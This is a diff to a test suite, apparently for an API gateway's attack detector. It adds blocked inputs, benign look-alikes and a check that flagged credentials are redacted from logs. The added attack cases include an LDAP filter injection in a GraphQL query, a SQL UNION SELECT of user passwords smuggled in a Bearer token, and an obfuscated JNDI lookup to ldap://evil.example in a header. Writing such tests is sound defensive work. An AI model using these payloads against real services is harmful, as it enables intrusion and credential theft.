@@ -97,6 +97,10 @@ apis:
     // a request the upstream would take for another one than the gateway checked
     ['protocol', '/items/7 (X-HTTP-Method-Override: DELETE)', { method: 'POST', headers: { 'x-http-method-override': 'DELETE', 'content-type': 'application/json' }, body: '{}' }],
     ['protocol', '/public (X-Original-URL: /admin/users)', { headers: { 'x-original-url': '/admin/users' } }],
+    // where API attacks arrive: a GraphQL argument, a hand-made Bearer token, a conditional header
+    ['ldapi', '/graphql', json({ query: 'query { employees(filter: "*)(|(objectClass=*)(mail=*") { cn } }' })],
+    ['sqli', '/api/status (Authorization: Bearer …UNION…)', { headers: { authorization: "Bearer x'/**/UNION/**/SELECT/**/password/**/FROM/**/users#" } }],
+    ['jndi', '/static/app.js (If-Modified-Since: ${jndi…})', { headers: { 'if-modified-since': '${${lower:j}ndi:ldap://evil.example/a}' } }],
   ];
 
   for (const [category, path, init] of attacks) {
@@ -122,6 +126,8 @@ apis:
     ['/webhooks', json({ url: 'https://hooks.example.com/services/T000/B000' })],
     ['/orders', json({ address: "c/ caridad s/n, campello, el", price: '12.50 €', phone: '+34 965 123 456' })],
     ['/items/7', { method: 'POST', headers: { 'x-http-method-override': 'post', 'content-type': 'application/json' }, body: '{}' }],
+    ['/graphql', json({ query: 'mutation Save($id: ID!) { saveNote(id: $id, input: {title: "O\'Brien; select a plan", tags: ["a&b", "<draft>"]}) { id ...F } } fragment F on Note { updatedAt }', variables: { id: '7' } })],
+    ['/me', { headers: { authorization: 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln', 'if-none-match': 'W/"<1 OR 1=1>"' } }],
   ];
 
   for (const [path, init] of benign) {
@@ -170,6 +176,22 @@ apis:
     assert.match(f.detector, /^xss\./);
     assert.ok(f.excerpt.length <= 40);
     assert.ok(!JSON.stringify(ev).includes(marker), 'the value itself is not in the event');
+  });
+
+  test('a finding in a credential names the header and never shows its value', async () => {
+    const n = gw.events().length;
+    const token = "Bearer zz'/**/UNION/**/SELECT/**/secret_marker/**/FROM/**/keys#";
+    const r = await send(gw, '/api/status', { headers: { authorization: token } });
+    assert.equal(r.status, 403, r.body);
+    const events = await gw.waitEvents(n + 1);
+    const ev = events[events.length - 1] as { threats: { findings: { location: string; name: string; excerpt: string }[] } };
+    assert.ok(ev.threats.findings.length > 0);
+    for (const f of ev.threats.findings) {
+      assert.equal(f.location, 'header');
+      assert.equal(f.name, 'authorization');
+      assert.equal(f.excerpt, '[REDACTED]');
+    }
+    assert.ok(!JSON.stringify(events).includes('secret_marker'), 'the credential is in no event');
   });
 
   test('monitor mode forwards the request and records what would have been refused', async () => {
